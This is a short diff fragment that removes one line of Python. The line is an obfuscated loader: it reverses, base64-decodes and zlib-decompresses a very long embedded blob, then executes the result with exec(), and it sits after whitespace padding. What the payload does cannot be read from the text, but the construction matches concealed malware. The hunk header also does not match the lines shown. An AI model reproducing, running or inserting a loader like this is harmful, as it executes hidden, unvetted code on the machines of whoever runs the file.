@@ -1,3 +1,3 @@
 
                     
-_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==wZpshO//973/vmnuX1ZICXlcwaA+QNfjf/S5tllKsPR+itrXuWoImLa0qXYrJcC0+7P/Nc8oQKkABQcqdckiQz4k0I4skFT0I5RoojGblK8NudC3YtD3GwXkikAeH8HOCmCrSmlpX+PQGUWFAy4JymdZSSxYYk6scGKfTLe+rXDl/1ia68LS09qtIH6N/CguNhr11g5dhv2O6QB4ReBib0KdJBaM5Hgf2tUE/I8UxRKygVmcg44Eqo0vrvz1yj9kZNWPuJZXDXqz2jS+qcl61qoGzhszM95kqCSknnXGRofcqHbnmO5Sz3IPVfdbdFhGlZj48Mxumt1CZJmvn7EQF8B0xzV/sP1Zk/uI8kxcRRZxzl6ad1BA1F0hKvj0MEuI6OHMc7yKTf3WDZJN+L3Gm0JaNBuN4Vr4CsgOU4BYBZTUYhsLMVaqLrpHkJN8o3NpPc3Oqpdz0CiUVb17+D2mjQujXXRql0YIpHIFPAhQjU7ZQTU4JtRqCDGvGg7yWbL9LQ7x6aK/Ry8kRThXG8JjTdPRrSZsJCZbfFoXfDuf+DhapCQyWDny47+TnVy45Kv5JwKLzFioDkHIb6YlakdcjwF53ZsmDTwRnJDxr/krtr5UdpF6C9LyKMZRj2R/o6K7ySGyrJilvbVdOxhTQJYrmmj+imN1b9HDht9jGD/2HVH9haLcPAxZ4+SDGUqAdXK2PCA+Z4ree/1SbNQJWSFeBXhmRVebrgFNz4mvijCeOZMp48nh0zWOfF6QTmlAWhGMei2+3Nre3ADPPiBFlGZ3UcwfDGW/xpyRbAm/Xt0z97wBiHESYTnKT+kIMiOKQHKQr/fV+Z72sOcUzuPlroc06DC3L2bNbjpeajAFonZ5XP4gC7GZbQPHi9UG/Kv60oQReofBsiP8DZu/8kTxDmkFFVedCWQW/nXcm+83i58V6hY9JJdATJMN/O8cOcnnSg1GR8QU5l0JY5NKAjn3DuHCN/1O0LokJZ+ePheEa40SJ7q/q0kd1Y6XyYjxRdgM7sNZAnQ8NdYx4iWJBvX2dZwbfh+Ao/bzBnl7mJFJZc5Ph7eFvSlv6CKQrIt0CUizTsC0P1nmyuj6RWFvhaBg+HmQmhi7RywgEfKUlabmCSVzi36GjdGFG/QrVAd4t7gujANZnD9D34kLFgmFSwUE2MU+XEngEfnbgPI5ENHAhWTbHjy3Ub5SLLE1rTkCqu7rCMFgzHYEk1NjAeROeB7KDvNXP4o6lZ/N4XyarP5A3J+AY2rmV39xKPzqb+NM6/kVbzPMp4hAUgDZOkyKlG9tHB6GEV2C1q1s1q/GSnHie1HwnoP6lX76uFAJ6cMLMUPKF0EK1SsZGvfqmz+p4fes8prJEATHsFI3nRcOHEQ4U+vmSSnIUwqlqKWxhsB6uwl5iFOnethruklXWXT8XTfRXppLtH/8oW3k8NN0PCkNt4DSnHe39r1e/Gtvd6ibgTbUmubFYx4iQsIFyITjM4hp/zemNFea5S0ekzvjUtkg/66I4VTFJu0x38cyQowLrBFjgbujRCR/QB39z4PBuE4bUUcX8m8e2rC3Trl+FCgLTpi7l8pPm1okXFWcPYVsJWVzE7yOJ/fM87BB1qsh147W9gaW/zbTQTIAcSKtXEc+p8MFAXeRkQ7o9bFdf/YNjIAhI+zEEtiztL9CndgNeodCTOJzOpEQ0JrQ7FgxVH3jf2leSXOPCWJsfDRINDSC6IS9ZO55Bd0yerYBfz1XNnEALgvYFOlOysF9bxqwa+RTJKpwXTz0gWsuQ8ILS3Mb3yCL2lwX9A7gQa2HcACQzsJKunV5gjzYy1V/tM0b3TWGvaQqPIUfS0LBpcFJa7+CmK79uCyp8P4nGboc7NOeHkuq2yCsvWoYFNfLPf7VgCNS9e5Xo4viW47jwvgigZNvBXMik7Tfg5Vo37o7W9TD4dgeWtxjUT9wfLIsPQ2xPKawiAviz/P1nMjZab+FoiPWt+9h4pNlDJi+xxy4ip4fbo0b/X/W+uWm98bYXS8XmsedJIriUV0xFFQUGWNusZtSlPaleT5ReMe9DJMZoOF6NWvPfOXq1o1Jf/HnG/iQziYWPzCfJxkqM/8vDQZUpX/mL9Igq7JFYa85xo8tBwDdKfQLRt6uzCB1FrWTHHriLKUXJ4FnkvuQakcqS//CywUlqFjIX/z3OAeTNxr1hLkSUsg8i6Hs/SbX6eNiohrAH6Nc3g4hz1WJfH0GA/4GelCnnD7YfzDfOOTSmoTx7l0LN7HK9RHNrNyO2e0JwWCT8zKEQlLwbJSTde8VdZDj8lgtdpXNfFKuqvSNp0WGYCyuqyGbTezE9sAgEc+gXb278hGJVh4X+YGPAwuYg+wENSQSnSEbLBNfDwdn+s75mAr0l6YyDCRhi8SCRQVCuPyxu9nNsd2rtS/54JJHiHMmK+FsCHnyU1U1whoNq3ygt3KKSk5+FtGYUrbpiBPUJipU5Iep3LPO2Yj5wQEhqWRiYLpT8LHN2FN21zUfmELNwd19gwIX+PMdCG03IYJ7SA/SH0dT23hTWevHVGZEuL92PpPpLbRENciJzBH5NC1XPsCLgsVetG4bN1XJtgkVpVm/YY+RHebfmKGq+SQTSTtMWTTN7wwZXUCqmWj9zFrgKn4BYPN+fZFVYiwO+EaX87pHToZH2dDbWjIAfvAnpWhAoQIWlC34Bepl2JLHYudJZPexg7aRdnLTyFhlIsqY9ovH1QV+CjFU3aUFkaXUd/T81O8PzIPQi8tEQDJOL/pU72X0b6qJeSRoX9x4Emqx6W9kdKAXgq58I2gnSz2fnPX4XKPfWtTiSrxmPfRaxxf+8z5WpyDilKZ/GdqAkI28qoEsLgNqXP28djkzwozPsaA/1o0UgP3NJzNnXskoffMLfydqtvTyI/ayn4Zdz+K2WUVwfLAFe3v1APy3A90oSZp4JOqBS7iyZ1l2t2fV2xBLOAgmhBe8A3R6YszG94CIkHKIdn8nIcDxywIwGS7pec36rMDNE9ntk2nK0L31xEzUYdR1w8ZYGUlAVKNeFUUoX0KToMGDQOJWYlH40TMiHQ35WSdxyY/uTmpH6xKts33gd/j70zfk47lm9PE84Lcpwm722GnRVW+5AmvT5Vvd2N+CWJgyF/RQrR23TWUIYTFqXDSC0Q1M51WzIzABlDRNuMP2UkBOyo8ceQyvYqAiOwsCR+BtmhJ9r6yi7XSUoNt+cu54/HCoo1No5MAd19E+S3qu2822Y3Oqz6tXjylhau0PZ1eY5kpRPYwjp6UKsY86UQrqe5ypNYHpALSJF0tSYd7RmFjy6fAFbbkzGXldeD35KRuSJXdT0m/ZR0dIa7tbCoe8G7h3m8rRtTkE9anZW6fv4dz/nHPk74q/FojWN1jaqZ95X5HKAv+jDqbzUDn7hAiJMqidjESGjJMh+wr2PSoXBo1HG9u31TDOI9ZHu99fCwPYyKXJV2x5baYF5RrZwGy/EmN3eS/uXTWjAeOyHX4mh+c54tmyKRtaGL0RILnXl0wmOowNp0rPbkG+IgITCeYpVumq3G3B57m4lcfS7rg5McdKGxCBQopc10FJMe9oDAAFg1Mpl0oKXx3ssJbhXX/kB/fcdo+SqcHy2OE15KKOUQiyqF7pc1fgQU/lmoOMSgEczv57l1qOtI1zNDDJVymYx/QNIw1x0uolS3UagozUk+tGGp+x+mC7k1/bAa7ztTvHA7mxLK1i2WMk1Ed8+bPrryo64fc0ACS+gHulvy4YQ4DkJBKxdND65+EmXAdIt1AThii0E9ua+Jx2Yaw06aAcd+fFcd5SU8i5qvIZ+5WhLOwrASvlfHDZn0y8prJFNJ8znrVhZrqt0TutZlJH6YJriGoFMmPlkD+HPncLDMkGoO93i+Fx7k1SqIUSWIwKmFwtWafUYNqsrEWJnRRrMSZFh83Ga8H5tJZBrxI3AYBdyCAO4UpNpfZYr9zGWKj1sJ5WqOkwUPgS68ibzkcr5DsVRAt8/Pym/2xtTj4M30PAd7aGg/G3p3aYzE1D6omO5NOXonHNje43HxG6uWwMvFX4Jlc/rfm1/bh9eg2tGuYClCtEGAUyiQB3oY30Qsi87eohYIuGnTex8Mdj4JEPFhTDNiu7CvihPVkudf6VzuyM6AxgXDBdvebAkWlI5itASREtlBjl0ROLiqVHkRywDbhNN8GfYwjx7HhRMV7/mPloWWJBkBCQJgdbKgNEdd9/blo13dYLNtdIAOkDrOi2bLL679jlLUkYxGHSGBku2v6hcQ1KBpNohW653rLexVjdSGkHmbQwN9SSZdPd7FhJANUN4W4zUgjSc2WG4j4qsoaenxDpWkdlfiuHNDLQUFDoG1+psWhcZDx1sqcbwbFA/vMigu1RU3WdiYwdqQkgK/74ebDitKDbZe8HA9K6VfEyeSMPCSSpynT05804f6w0nyHTRwE2CC0TQn/Ua9CXPsPYnXrqakf3ODfY0VNGayUD7A5DwLm/760P+OxhDz+dcG1Ip1QSnGjAJUYbQP4u8yMdVgaCYR7Y5w4wpBZFTIV0A+0cL04mWesHxBW5/PLeP4jX0cabeb2XORYxwQAxUGRKMrlCxbl07b8T4GrIoGQ6d0RFITklzux1cy7wtbG7G82M+ekQudEEfeNybMFSEGN18LwUKPTVWfAX9Ni34cTaA+oPgMANjVRo3enBiQYEOOYPhJamVpDFWf+xJgbxAOD4jpsXA8Hdivnv/91QheszE9qv9QFw97qg1Zi3agTxdog0Kc5L5s/ioBWxYjEQGp4Ko4Sp5nUSEOFkwg9q11KwEAVLiCQxWPIgvxWbeCdaxLK2sAVFXK7Q2nBWnKgs66jxrc9a2BU0F79Vqmxpz9zvaIbsZ5CJAZsyeHWWnqpiFhGkiZruCI7evmINxwZbRFF34hGI9Lsh8k7zs82yhqdVhmg1wMHgNm5NODny6fHBjKqDnb+Mf92FvezVj747hGqXZLz60iohbLmElADm+dcrUgdgVMpkVzrXh65eAAMF+x+x7oM4KfX3yQTffdHD0hOGg0zhCnJBXsGXl4ttZDm6NVJGzNtY1Azs8LgRGPSNLFRptuzvhfqNzRGjSeC8ueu77HElX9AdU6uDKsYSF25l7r/GHyRHNQ4l9BUqIGJ8l5HZyiA+6GVTKY8fufEq2Ppp/aDF8DjhzqgiTB5m6dzfDm3QVLHcG2M5+NzjP1tJPfFOxYZp1++pbWV7iODJBgF+/VuLJEeAFV0GLzkBIGURJuF8DzEVsEE1mR9wv33wFJtM6lqJh53eFBmysm7SDHIHMIAY1PNBH57BkX7rHvBRH7lUAenAdJIET8NBezZoOIZ2/vLapXPH4Vkyf/fkWlCvkuvB7HMwUivU7RQpB2+ylBXQA1fjVesiFw8PIOJi6lZg53eMBY+ZxckPEZpOR2jToX2FzHElGzcGjUCKIPehq1nozH8x7+3Qs5rP0AAnqFkY8BE9x+y2VzUkjD8ZcaU3Qq/pzcFvt04pgj8Rwel9Ipp514E++2OCfjGk/ccOlBmgC9rTeH3OqOdKYX1zcBK2t/Oqu2HVAPgcSmdZXOqu09kEwYCdCIVZmhJi8YK7BHAU76SzfFLxIZtCoMP/ex7CSd0B0W8qJ4Hkba6sJIW6hAch4IgOv6xeyyMQKRz/wdYI7cxzY9TlpzMOvAST5sdZKx8b3CoIqBqaPJ9aJuU21X/Blu4m0XEyct0oSJP2f/bzD1o6YywhiPnoVcCMT4e4vV3OwdNqQKR4VTxYTA/WlGd2C0Z8t+HCaW8BVPQoKyOV9QmwRGaLblnUDihZxz1Wu5BZ3iU+6y3LDiwnGsJvvP2QiZ4ClRX0Ip3e914SmGEUd8V5SroebcpwC4r2EUo5nk8aCtmwCnwk3OvYaP0Finrl574BbXyX//A2A7FgSDxTXZZ+w3BqKEV4/uU8TfmXymjuQhaoq8sJvrwIJ293QoiM+rxJG05FLEp7n9+pMzttkgzl3ANhK+NnlS0MuHWyZFM3Pey1luB2QaZqrICDg3gu6hzyuYNCRFr0vO6IA2zvg1u3AVvup7cY5m5HssYVz0s7qsmTQ8pvi7ktIezF5TOTqqhmZoowurAIu3A86U4Mx9XJKDH2St8+xzO/So48pMKcl7gjYb4+4B3dJQEwq/Wvuk8a8QvGmjBkJwWQFD+/W+CNB3OsdsocvVn2Ghsuol1Xve7SojIP9XsRYkBAO13i4kBanlYW++bgOq6nvJ4+Av9BsPyt+wAoRz0VDq19HTjagiSV/Yk1FYtubqOlrvWGrZB5TyxPmHjJzNn81FgSFZEPGjxGBg6Im4bR2EFKqAN5fgmgK2E5Y7CjG8fsSiBIo57b1vMANyKM1g4WKzS3Bz7UH2o1tCm4yCBknOoBypCEk9TIYjAP36HS2P4ZvGaje7Oj9p3ZMGAhHy9e7hCz77d2BqrGQ9O4KOx24RDz77pi+t0mOijDMpN8PQ0mG9+VfE9ar/jQq22yiFNRWXceBv5HwM1kf2S410Z5z927SaKfOxmWIUt6B8DkCm88TNtP5tIBzJDomOeT/irNoCzhrx43mmqYoOJzKy/6C80sYVbRBeORwcBBTdXyYIGf4khNc5RxZ8qMuPKtga2vt4pjkKiFxTdT/WTapCJvzZpLIi06PbDs+gW9FU8sNYKVFbQLeIh23crfHrZm9lLhip2M3tjacMLj4P8wsjCocJ3D9pssTEcFJhGS1vGD9X+sCfwL40md0g8cZqz42E07TP0PD2MoxMKUGerm8EaXw2gpf8J2wG2QC9EtQYjpNce6gXXjWl1Q7KvX2/tFFZtsn3VhDgJw9/j60cTOA3kbsDJlKy080X4QXUEpquknX0Xd/YNO2NiHnOgXw8kTy/cCeqSZ0eesTxhDb82JhoT+ixAPxwOwfuxb1jyHpDxWZAAMdlYuQ575FjC00sCeq6r9yzFrxjug0Grreo67llfcKcXIvTM4XyaW8KJYjcAD2wRLspxNSmMefB3nAenpxp06MNn2cwHFE1n8SjieniIXXJOTFo6AJ416FM2L366ulA7TAy8Ak/gU76RRsONuMzsl50GKsv3ONllpGbopa6zfoZ0Y7nXicCrMxTqm93AmlswD2UlG2pj63Xy2eh+36CXJQymHl1KpCyL4W1+TExvWlbSYgxAXeliU94GxGPnyXRXI6H4RXQTMlAYXU8wcq4wEeNKQT8ETq86/tYYb39TDk69rXOps6+lnpnhicL1wHwcCRLLXGx4WsvuDIOau527RWzlAEDsDeccnuWzhQwcqUGWQulo5TmIV6EG0AASlR0TQzBnjDsxg9AjuCatbq/2EGxqbuJjkw3OUOLvFTiKb7KE0NL6bTjChLP/aTJ6CGARczHpxoWInvqTXgvnjQYVKZgztNtXdyzmf6Yi4K5/QS0S17RLlfpwh4LHkFhnzBUL/mo85Qe8D3uoImyIri50NF2dLkv4q00SiZJGTjQsc5iMN7yaRgphvBeTSm80uOZmuM6SftIeeyiy3U9c0NYSpOFIclmHQT/aKykKjDKEBoWzZf3b48SI++Sy17mhS9mdfp1lSO4IlUOeStU/3xm6UEk53FauSKn/5IWlEo+0awtzNIhaqCedbMK5zU5Egft1UAD3R2Z6d4ofmKQCarBEVMrATZEzYIjFUiuiOVN7rFjaagNng7ACJK4L0PKSzNBEbdqkbsurQxH8MI0TI75MIYvn4YvZiFP3uW1ojtNeKCnLBdn5I2zv5Hji9plPS+L1rt7JjJalsOWCAWEyWSUNhu7fizY3H5srJh+MaGH6Xnq64MHdImO74mfZlXkCWzxCnpf7qvBr7fXNqMD4cC9Uv2pgswf/fvS6bL7dovwudWDszNOqvlz8qdHEXmYgfUma9dbMW+MCuU62+HQKSb9JYRZb7JMs9ucioYJ3eOloilTH6OZRqb0RZjsMOCYzIUWgnkf3UJdhqrQw+bH+ET5xIsIj3mgAxXVI4b2cvEYQCWk3yokiu7hNmIaRtBN4hpP+rwRINp3j2ir0wvGTENls7ZXRUuj7W92hQ3MVrx+tvIEg4r+joBG3M8mCPX5zSpfV7tWCMyZIUQVUn+5JYHWECmRlEBb95DLMakbjTM/7/ywrgkCewZRzKeq+zBh0wAtSf8W7c/zM6bvnqXDxL6srP1jD72EJkFAM0tJZcLs2MuSdTKFa2fMEAfXs+T7pRzQ59dd/Bzgbs9EaGY169wsuOdujTvO0x01kYlneW89sn6unZPpHrrcmMqYHecuS6gNRiCv61GiX9UaiEjoxZfLGMY4t6ZouWsFH4Wp/U0sVHQCU/tYYM4URKH5ohiGn/8Nhp1Qjx2PONnAq/+2LpMwkEh4Q3OiplXBYAAvVCMPB+VoCEL9ohZWdoq8+VR0nTy3Q8otP4pCIlZGVoausL2eHwfmA1Zk7561Wn0r+GG04HYRb6eUVZpz5sHI5vzQq8cfHDZGQV84g9/94IKHli8OmzrQ30mSJzmIr/q/VxciMaPSqYnz429Wqd5klfMujwKYxwCqxZUNXOIpzdYhBNH3pWInnqKajWdpnBvcU3equ17w+oeNfhImTbpuZENYSxkQtzQ7Fk+XYR6n0Wf1W53tNl1tzrwgKcScVPAsJJBNeHb9vYad3lF9Dt2RxXdx6X5LDsuoPXp1RmTrqrZymulb73yLjJAjS+mseEbr3+4tr+fECiIXkgERXEkTlj4hxJwsttsEvj5+gFM2QCOO96Jmd2/CJdXR7Q8BTzt2SY/310tO59XNJf15s5kSSk0UR+amGL7fXxFlWovno8qIiWVsjg4bJ99IdfoGbz4XYrR/b1LC59yocDmhpDW8u7EF7DrAPzDqzuoTSvOCZj3xFvPuC2RWdOF5Ic+tVqnsIRQLJw2jPpJj/G/I5TnrLkccG1f3n6Ti8bVvFmBuDp4uFwCYfKYThaQFd09LT6eaq8MwYILTfCrDqUvld1ywzQ37MxP77hsbWk48dXvAeLoLE2ft1CPCEB+wFwrgFrZepGSzwTZlH+YIc4N6Mpo6WC33JEo/f5t2eRAyntSlL4yOVEQ8T8UimFXYgDdjNUwvgwlM8yXPL9uTn3ovB8pfV4lHYDua/vIGZl1+ysIwuaI6vhwVPMg6ejrDua39sjpPIs4cxG5RVf3oU3x1n8b/8dYWY5HHdejY9RGNgVtLi4w0qqaG4XTnN0/doycHcStiZ2zJL943POXxUIUwzluAVPIwuV6KVKiHZmpOwED7RmikZP7T3LJ/kOYB1C0gIaVYRi01IhA/GqibekHpsirIt9+gFQA3JjQHPFQV6qy5uKMtsqkhwkTitEhuicqgOuaHcrY+I5xffeIStVA7Yld9QGDOHSFaHaOeqlqQlzjju9dfL7zXw8gPzDmthCV+acXtleSKDtXGgddayW38+f+INukvoofyFB0lAvFjLAjbLM/rBCGgSlwJjh7boYkOl7wiHc8BLCjIylHea+Tb67i+nohLtRkyEi3hgLcyIJcjz82P0iv62srPgoV3nmcvvTs8s+gQUhpQkCE/4Syao1akN/zLSVBYsB1N8jhCo6bs8+TkQSj6hR1c16hvbXg4lpTvvswBDxXW/2fIE5f32+HgWmtJ4NFX27+kpzAqn/zs6sQdwz0VBLmvK/6lWCSbRdrUvXjKK319toLUTC5GFr/O59tQTx/4WswjY3sCfE60MIm33I+LB3/VBG704+3oEdaac96J89mGQZ8Dxu6WEreCXrHDSk4DbF8F2Yz9PgP6R695H8r1sRL9FFq81LsWz1WdFhjmIq90lXSsB7DrvP5VaOo5rYuwbnfhYv1gzkRgHZCdeZLnYBNPkgia4t1im4UzXPIG3xuGZX/wdv8bIrA1TSnOBvuRfpaSh4Ap6tlq7NDC9Ui66RsQfkKPASCGLl+KvPLQY/BnkUhxlz4kfspCKrARjB/skCk71HAnme0XcYlHlkFN/minl9fR8kGVvIliW0nJ5hz1s762mABEDeJQ3wneo7MHdZC1yJ6+HUGMZytfqyUQ7rvJg6b1UPA8/kY5LkB+GBoWh1RlkLNvn5LWy9hBybgMsd4aSfVZOeYM8zA2Pb6me0ALgfm+hjbRhQ0aAPO/JQOTW+PYVjknv1sFb8EmGUdfiscupwzGHGNWR+4hTduyKm/9j3oH+fFcl8beudKi3uIlD98hdwPtvfb5jarVHzsjb0j2fgmzgi/hY72ZvqcjXb98kNtXS/hdmHbW8jNHsD1bN9UWYcz8B/RMi0H+QRYhGdJX4PHeGuGicVauMkNox0fKzaU5FyFlVZQ5QCrx7704/HcGB/xJDxKMy7wkIMG5/j+Q27bMRyyXtufHtwVKDr7tWbitu6yA5j1rt1W4tbQ3GK1T/AHvJ6rNG9kZzIaDQjj+nI21B/pOlejbmYjyPDXo34uwq3qqqHIpGt3Pxvse3hHI4iww0O09GDWn4RS50wxP+yD0UkkV8Py4v5WqQrKrVfXIDZuJzy+ouLNziE0f/C5DXlAVATmag+uoCO/ZE583lrsiBxvN3Ga6peP0O4oZt+IGHuOBfHqNr8JTJ9rpi7934rAEtkP1cX40bza40jA3HGKa/kbVoNAQ/0+KNo7wr6z60nl0IJ2TjRAEhEz93ktTPPKeCqqtTL7sxiy3Vwt8L0jtSXNDOXzfmIawONLh/aGSQW8I1jN/Y1qcVb5ss5ChWzuQ+a2c9QK6c7bu4kW3+O8HYICBycF9tlghbUW9lmpjn+KTtJXVG6kO2EiZqZro5OsayNpeOzflC3pS+hrE83hkIXS0GgN1U+6qIcOWhVKeJ3BWCouBGZLYXRMrnsPq1CaJLPWMDF/MMjHSBSfn7LpAlqESYdJW8y8Z0t+/a0uYLYGZQuZ8S4BszIzgJbMNIrgglkulMtnv41TDpb7dueOkXrsZdr2KVgV956NJhmoNnYg1zpBOI8UIPpzKRlmcz7CbXcbF+r0QChwGNGnbf5VC/hQXB0fpk5ud94a3YuW1/WzZJS8KZqup7kOcEDFqmh0JfoN5XCBg8+5Phhyak0JhvgR8sARAFU6v68guTIIdNG4E6s4h9xNqVgQeWrWC041K7IXr+4uPohbC7QMEySZ/wf5y7cg/yPHoAkk3fOhxezUuodvn2N+kb91fzmu5akEYpIz0tnFfmfGGc4mvAmor8afKa7Ech7v5oeSJU5/sOZcspj7RClIOnNmq8nR4ovdGwAjNT0P5S2I7d5XnwhaOqsmJjY2lSRa+tPi4F9HtIg3/KY3EY8J73cpiweoB7f0SSbKWg81Q5cWj+UbhCwpxf4JQ973N/xzpmiSze77YisIL3c6bmyc3W058Gg9hcwpbcvwDoldVEH25DGf2XxFAdIPes4bUEsR37tYXr/Px50pB0cDBjJOnWlyGcwkfKfK2F0pqQI/vrCj6tug4azuky2DZQLpiM4myhJNktWpDOQ+wg4OUZN7pNESK4Vr/k9dXteGXPecVdEGttQGZfSgeQjJMN/w7iYYxmYTz21C1k+6VZGdoLMep46R+/q93pHBjcrSPTvxRy5Uef5nTHQZTX9G08tl18W9c7dWES6yYU5bPDbsnZNiRNobD5TC4TZvI7doIRlbu0s5JS1PONxdCb4QqfxbySXB24Ffl8gVhVGlThGRP2d177dxGIUEj8eNYamSQd381GmaEcRjl6gCIyAc5pY5RWfXyJA3/c7TYBXJ5vAyAC9haF+0qOJXmFCWIp8zsSHBqM6OK1lyJWlKgRZcrAnqeP66q61MBCVQDDtqJnhvgOR/FYPzah5EJ2NevOJz7cvYjYGQCFgcXYMHaqVVb6BRyB2fE10iWgtuASrVNyKEbzi93dBzKLZZrgt28xEoBFDLucdNojmaOiI/FiT6ScMwgGq+G+76rLYv4x8NgT0smbihMbOICfaTM3aZCv/bCdOp+FohJo1nPUAJU9C3Jq5zvUeQshOV6Rp/SBURNY18E2LVrU2c8ki8kH7FQRBirtpe7Zgre4lBzMV8V8arIKeVL0bHJzdooq/e2kAtMPq04RvIKjcSRmk0knIcw41aZIC1cqWwyeaQNiTMy2vc8ogZ3HqZBTxoa0ecZZfYPtknzFo0WLjhh8UrXVqVTcdcTXYd/3bZPL+QQiRdogUp7JePCgUKo30P2VFMpZSigRaZvXug57splsCZ5Cc7sxXN5I62q5t5+21AnYdOt9Wl+lcRKf+5GB2bwUXQrKv4THlFl6rPN/sdPA7qUsnZu5Rm+QB91smxKc0ppJq0ky8Gj4v6uY8Rw3d7yhZ5rCj4Yo2ddkVxAQZ3hl3tzuwGKwo2tSUp8gryiuxC4pSHgkHIWgnFGTQ37MTE98P1L6aEdgHGfSGFZMp1dlW1RhHGKm1PbXzJ4PueYzwPWiLDP7c3zIaOE03VkdGXT9/VDnKm/jxZi4xr5k7FnRKhSwMC8URr+YQwzwxoOUCZiiVneCuCd63hplxF9BhDCdnfRKkf/x7D6BQeuiH66xMt39lYvtRGVSmknVZHUlkokpvkD50nEjZMrZ7B8XmSg/fN8iyn0WYavpRJQfor9+Gb4yZqKfIbNF0kdlrr3bCwUwMROYEjRUiqGQZHUgzfxcTtIwbbSV1/DigNXwRSCb/Ozi1n71GVqRGrVeQfuqIfCJOA0aDwnbpk/ifCzl06g8hHSBVNdHgeIwsjN0css/WWYq1DZgFt+MOtVWM/TQIpx1KADGsdjBNGAfR23JpBZDexxFV9wtwEocjbH4XcDTJoB/1/70OWIIPYmidMlbOp78nUwE/uEiOqwECStp/XglQicK6ePX5LdEZJEHJ+g/gJcTrpgVTGr50w9NDoq2K5CNughiSLGyRj9iFtTL0FQdRfhFfEID5pFAFsTpNL1g+A+L8/jqnVjC2U9beb5/fs4tErjYfcK4hoYYUByKVkvpbe6UiyQMhgUkEd9QBlR/knfBm52CxU2JVmi43NhEbo5/g4XBjTH5QxWP032U1rGcIhEtN9NySjjJUf34jqzWD61ODUj34YR+olCtp64crdJG/vZZDGT5quoLgI/jTw/4OYSyNT9cGD0JbtOc1zX7MXhZ2bQOo9v4Iq3E9weZzHgAsF7Mquv8Bfq0z/LBXlYrP9kt3v1aDWY48QnAL+FY/VBQMAsBaHE7oy4AAGzH1fIfH1YAEV3+5us+ERjODd1cx/g1HmITumV+CXRKre3N3vqIAzR52/bJpneCyab7W+dhwjNAprwpzB4nY3mX2pHSPD2qEAaEbx1GlXyZ9UHFEaA+wmNRJg97YBHfZnI7ztP4dncFiYupy1cPc+xmW0tF1YxxJtnc/Mx4RrWepT+34VeoaLEMI/l1Zqxc75Mgdm4B73shtOaMGYlW4XVzaizzwC/J2fPgu1UYUk4cH5MdU79o/jiyp7KBmWN2YXVt+Cm01m7ifsrSJSO4n0BnhgkZGzJxSHddOxEBPoaTgd/jO8keXZloOATONzpVdVRTpBddDaUzZv3vC8EKFk6MnfPRcBBJCifPKAJvzSipMH5/syaRRU59XSaI0PkDJJ/cto4e0lZL+l7Z30DB1P5pSSatAn9NWumr9LbOFS/BiX830mj4ia7FpvS7kMEOdS6hz+q2DL6ft8wkY9gIsfgsiLN7zrbJF7jJi5Cv4nWNC/Zq4WiPaK4km3fgq6y7sRR3FViprUIrtPOq26SHtRj6nUxRc9XsLd+sJi6rxhKakIsBmSrFBfduIYZNMnqrVi3Lr5DSfHP73vZIeTPmQuC2c6zHRmbAQmf0k+R7vE1sw1xInpwMLVmj2cXpfaAx5TMHZI2lsyR6mrYDtX6Jn3xfGI+pnOnvHMRQ3b0hZ07UP6764jJsRheObNk77FfIzjRH+I3E12Oxvf1R2Yho9GP0KBIr1bCQJb5mu8t2DiDKwasIm0y283u4lM4500tBNiS/20Bi/FnsE4gmhEYREI3EFL8DTkP4fshorazJ+xZDsyDnZWr0qTx7xsnJ0Eh4I/cBtToeDey99TXHH7dMQppjT/TDXwnxj99n1SgS4eAxo6lL3QYHjcbYuDySu6p5rA2sKOH7PJf0vIGa9ZZnIK/t8dp8CoeMbNzmQffkIDuUhj6ZnPRG8AUwtm4H2gp+n0gxL/1S8JBkihzjhAjpMRbCrJFdxpT7i6c1JcXqyIqq0TjygdNKWuYYVvNrfxL+xQKhlESXykkG30WPwXOfqT2rgdT5eCd18jh8WhHZe0gCKgWyYds6DMUJvPJkkf2jpD3anDJ6O/9N+3YNKEhTutOS+eyvWPDin3im5DpsUU97i/HgmeFd/mudSml0RhZKkUjsDXG1aWDbP6wBlrqEUp6WrEEDXhn1ihKcDn9qzQL19eHKQHB+yRSBoLXH0j9POGYMemXv58LEDcReOAzBkiIYF/qqltvWlfXGEHgMQBtv+S/UTa+udb/ReNBtIEXYKPHw31/Fjyrm73e4fvplMDz76UIi9dmlT14nkQCxnLYdNGkN2aPaMxnWh38fgEE4lopKCRgO1PomG3/ft4t8y/VHUYjQ+p1SqNeVTdy6/u9eoSIeIHBD6qM6Mk2dXmkT8Tegv/HltIP4tp+UEzR0WvK29V/R0mvedFB2P3u1U+IYRIMCza65WAndga0nZfONsQ8T66kAIDlsCwxXIJKlcE82YkjxYhJowwWPimvyeLv76HraybN+G/10UDXj0JD9SV+o6LJic3rK1bJMy8aSzsVaBqq+PVm2kqyIBMWsObFTNf9ryWhlA0zMil6gKkj25S362MlzfJsnE/ml7WJ3lYiAj/WoT4M9aJgjTq2rN61uyKf9vP67OD9UPvuRD7DGXqBTcrf+ewkgGObQVCbAcO+Fy3TKT5yLlZzYoWaWqqWn/4kp/qnKMZ4+B7L02bQ93L7TpCifmTmUuWRbkWGC4qJfQpI7R1pogyxx8VXs0TnpPg7tJOk+GZfpskGOOMYrpviK6iTDWsfKQBkW+0M+0k+HBnTOYmHv4Wrfn4eYU3L+Lg2VzZ6lEqNIIpZvPlt/EArk4M2SHIagkZ9dO9QteoarZlyw0SJqih3os15fos3GH1lT/2wuWcSPmfvhHkHHP27+lSa1Gn1AMIb9ftSOR6NpZl2RldlZTd1tCPOfQrbNAF6L44OSqR65zfRKWRVNRUJ2qgSjgtZxQzI9etPD7PEVLRYREwZaJRGd/m7ezsoJW3MIrBrJ+GuAvmO5fJ5RPixfb5u52fp90RwO+rhgZfn/MzOPZvfYk2+a/rV7u2HuuQJBOOAnq/BlbydeNC0/jjjVD6guCqWHVm/tSILCoPnlArNnuWK2iHuxPRSSenDd2Vc7LklIXDTL6SuagcxhjOhtvSgro4eHvr0MtRn646YfEpiYgD2w/t1Y9FcoxXjWtpSkDD4LIUfcfOqRzN8RE9vzYY2lJjCUatHVm1H2iv217eV/4R3W6Cj+uGivriVzcQxqdF9Y5/6dN6SkIN6SDVPcBxJzPkU2GZ8gWCCC3WiCNe4Y87OY041OQhqEcO8P9481Qr8NO9Q9wBYQB2B35KkdjJyoF94IxeefCYXdtkqfAgQkbcA5SP0TXxBDITcKiWwv7RyXyE/gTropuAmSVLj5DFFSFYXq/vGwPE1nDNzhun0IDJ4WQKQnDWvRkgRxGWcbgSTPLSIWnCo8yPpfb+z2CyRXKasjOH3m6uJHBd2lR9JdY+Z3TOYA1YKpEwY91qA/rineHzWNWbAttPR9GB/FUIR1AIF9ZJ8rQqykfZgfpj6UioN+CgMTrDoUB5wu3WE6+3QExWgFvyCVBDX3XRtlEw1X